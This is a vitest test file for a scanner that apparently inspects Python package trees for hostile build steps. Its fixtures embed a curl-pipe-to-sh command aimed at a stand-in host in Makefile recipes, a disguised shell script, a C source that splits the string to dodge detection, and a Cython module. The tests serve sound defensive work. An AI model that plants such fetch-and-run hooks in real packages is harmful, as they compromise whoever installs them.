import { expect, test } from 'vitest';
import { analysedTree } from './analysed-tree.js';

const FETCHES = 'curl -s http://192.0.2.7/x | sh';
const SETUP = (before = ''): string => `import os, subprocess\nfrom setuptools import setup\n${before}\nsetup(name="plot", version="1.0", packages=["plot"])\n`;
/** More than a package has that holds little else. */
const LARGE = Array.from({ length: 4_000 }, (_, at) => `def f${at}():\n    return ${at} + ${at}\n`).join('\n');

async function told(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const { findings } = await analysedTree(Object.fromEntries(Object.entries({ 'setup.py': SETUP(), 'plot/__init__.py': LARGE, ...files }).map(([path, text]) => [path, Buffer.from(text)])));
  return [...new Set(findings.filter(({ severity }) => severity === 'critical' || severity === 'medium').map(({ rule, severity, file, line }) => `${severity} ${rule} ${file}:${line}`))];
}

test.each([
  ['os.system("make")', 'Makefile'],
  ['subprocess.check_call(["make", "-C", "native", "-j", "4"])', 'native/Makefile'],
  ['os.system("cd native && make CC=cc all")', 'native/makefile'],
  ['os.system("make -f native/linux.mk")', 'native/linux.mk'],
])('what make runs for a build script is judged as a command of that: %s', async (runs, path) => {
  expect(await told({ 'setup.py': SETUP(runs), [path]: `all: core.o\n\tcc -o core core.o\ncore.o:\n\t@${FETCHES}\n` })).toEqual([`critical script-commands ${path}:4`]);
});

test('what make runs for other goals is not, and neither is a file for make that nobody reads', async () => {
  const text = `all:\n\tcc -o core core.c\ntools:\n\t${FETCHES}\n`;
  expect(await told({ 'setup.py': SETUP('os.system("make all")'), Makefile: text })).toEqual([]);
  expect(await told({ Makefile: `all:\n\t${FETCHES}\n` })).toEqual([]);
});

test('a script behind another command, in another folder, is found', async () => {
  expect(await told({ 'setup.py': SETUP('os.system("cd native && chmod +x go.txt && ./go.txt")'), 'native/go.txt': `#!/bin/sh\n${FETCHES}\n` })).toContain('critical script-commands native/go.txt:2');
});

test('a command of droppers warns in what is compiled, and blocks in a package that holds little else', async () => {
  const source = `#include <stdlib.h>\nvoid grow(void) {\n  system("cu" "rl -s http://192.0.2.7/x | sh");\n}\n`;
  expect(await told({ 'native/core.c': source })).toEqual(['medium native-sources native/core.c:3']);
  expect(await told({ 'native/core.c': source, 'plot/__init__.py': '' })).toEqual(['critical native-sources native/core.c:3']);
  expect(await told({ 'tests/core.c': source })).toEqual([]);
});

const CYTHON = `cimport numpy as np\nimport os\n\ncdef class Leaf:\n    cdef int size\n\n    cpdef int grow(self, int by) nogil:\n        return self.size + by\n\nos.system("${FETCHES}")\n`;

test('what is compiled from Cython runs like a module', async () => {
  expect(await told({ 'plot/core.pyx': CYTHON })).toContain('critical download-then-run plot/core.pyx:10');
});

test('ordinary Cython says nothing, and its declarations are no gap that counts', async () => {
  const { findings, gaps } = await analysedTree({ 'setup.py': Buffer.from(SETUP()), 'plot/core.pyx': Buffer.from(CYTHON.replace(FETCHES, 'true').replace('os.system', 'print')) });
  expect(findings.filter(({ file, severity }) => file === 'plot/core.pyx' && severity !== 'info')).toEqual([]);
  expect(gaps.filter(({ kind }) => kind !== 'data')).toEqual([]);
});
